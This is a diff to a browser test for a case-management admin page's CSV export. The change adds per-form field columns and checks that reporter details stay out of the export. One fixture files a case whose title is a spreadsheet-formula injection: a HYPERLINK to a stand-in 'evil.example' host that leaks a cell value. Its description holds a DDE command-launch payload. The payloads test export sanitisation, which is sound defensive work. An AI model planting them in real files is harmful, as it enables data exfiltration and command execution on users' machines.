@@ -573,7 +573,14 @@ describe.skipIf(!chromiumAvailable())('admin page in Chromium', () => {
   });
 
   it('exports the filtered subtree as a CSV for the monthly report, without the reporter\'s details', async () => {
-    const filed = await fileCase({ externalId: 'WO-CSV-1', title: '宠物噪音扰邻', description: '邻居家的狗夜间吠叫。', reporter: { name: '卫女士', phone: '13912340041' }, location: { unitId: 'hp-xf-cy-1' } });
+    const filed = await fileCase({
+      externalId: 'WO-CSV-1',
+      title: '宠物噪音扰邻',
+      description: '邻居家的狗夜间吠叫。',
+      reporter: { name: '卫女士', phone: '13912340041' },
+      location: { unitId: 'hp-xf-cy-1' },
+      fields: { disputeType: '邻里', amount: 800 },
+    });
     // A description written as a spreadsheet formula, as an attacker would send it.
     const formula = await fileCase({ title: '=HYPERLINK("http://evil.example/?x="&A1,"详情")', description: '@SUM(1+1)*cmd|\' /C calc\'!A0', location: { unitId: 'hp-xf-cy-1' } });
     // One resolved, so the sheet has a 办结时间 to check.
@@ -588,7 +595,11 @@ describe.skipIf(!chromiumAvailable())('admin page in Chromium', () => {
     const { name, text } = await downloadBy(p, p.getByRole('button', { name: '导出 CSV' }));
     expect(name).toMatch(/^辖区案件-\d{4}-\d{2}-\d{2}\.csv$/);
     const lines = text.replace(/^\uFEFF/, '').trimEnd().split('\n');
-    expect(lines[0]).toBe('编号,12345工单号,受理时间,来源,中心,诉求,内容摘要,发生单位,当前单位,当前层级,状态,期限,超时,上报次数,风险,办结时间,办结结果,回访满意度');
+    // The centres' forms add a column per field (家庭情况, personal, has none).
+    expect(lines[0]).toBe(
+      '编号,12345工单号,受理时间,来源,中心,诉求,内容摘要,发生单位,当前单位,当前层级,状态,期限,超时,上报次数,风险,办结时间,办结结果,回访满意度,' +
+        '涉及事项,纠纷类型,争议金额（元）,问题位置,持续时间,咨询领域,求助类别',
+    );
     const token = await login(suite.stack, 'community-mediator');
     let total = 0;
     let cursor: string | null = null;
@@ -614,6 +625,7 @@ describe.skipIf(!chromiumAvailable())('admin page in Chromium', () => {
       for (const column of ['期限', '办结时间']) if (r[column] !== '') expect(r[column], column).toMatch(minute);
     }
     expect(sheet.find((r) => r['编号'] === done.trackingNo)?.['办结时间']).toMatch(minute);
+    expect(sheet.find((r) => r['编号'] === filed.trackingNo)).toMatchObject({ 纠纷类型: '邻里', '争议金额（元）': '800', 求助类别: '' });
     expect(sheet.find((r) => r['编号'] === filed.trackingNo)?.['12345工单号']).toBe('WO-CSV-1');
     expect(text).not.toContain('13912340041');
     expect(text).not.toContain('卫女士');
